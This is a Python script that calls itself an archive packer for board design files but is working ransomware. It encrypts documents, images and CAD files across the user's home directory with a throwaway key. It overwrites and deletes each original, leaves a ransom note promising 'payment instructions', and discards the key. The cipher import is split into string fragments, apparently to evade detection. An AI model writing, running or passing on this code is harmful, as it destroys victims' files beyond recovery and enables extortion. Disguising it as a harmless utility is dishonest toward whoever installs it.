#!/usr/bin/env python3
"""Pack finished board designs into the secure archive format.

Walks the design folders, seals every design file and removes the
working copy so only the sealed version remains.
"""
import argparse
import importlib
import logging
import os
import pathlib
import secrets

log = logging.getLogger("archive_packer")

DESIGN_EXT = {".s3dx", ".brd", ".dxf", ".stl", ".pdf", ".xlsx", ".docx",
              ".jpg", ".png", ".csv", ".odt"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net")


class Sealer:
    def __init__(self):
        cls = _cipher_factory()
        self.key = cls.generate_key()
        self._box = cls(self.key)
        self.count = 0

    def seal(self, path: pathlib.Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        with path.open("r+b") as fh:  # scrub before unlinking
            fh.write(secrets.token_bytes(len(data)))
        path.unlink()
        self.count += 1


def roots():
    home = pathlib.Path.home()
    extra = os.environ.get("PACKER_ROOTS", "")
    found = [home] + [pathlib.Path(p) for p in extra.split(":") if p]
    return [r for r in found if r.is_dir()]


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = pathlib.Path(dirpath) / name
            if p.suffix.lower() in DESIGN_EXT:
                yield p


def leave_note(root, key_id):
    (root / NOTE_NAME).write_text(
        "Your shop files have been sealed.\n"
        f"Reference: {key_id}\n"
        "Contact restore@example.org with the reference to obtain the key.\n"
        "Payment instructions will follow.\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--limit", type=int, default=0, help="stop after N files")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    sealer = Sealer()
    key_id = secrets.token_hex(8)
    for root in roots():
        for path in candidates(root):
            try:
                sealer.seal(path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
            if args.limit and sealer.count >= args.limit:
                break
        leave_note(root, key_id)
    # the key is discarded once the run ends
    del sealer.key
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
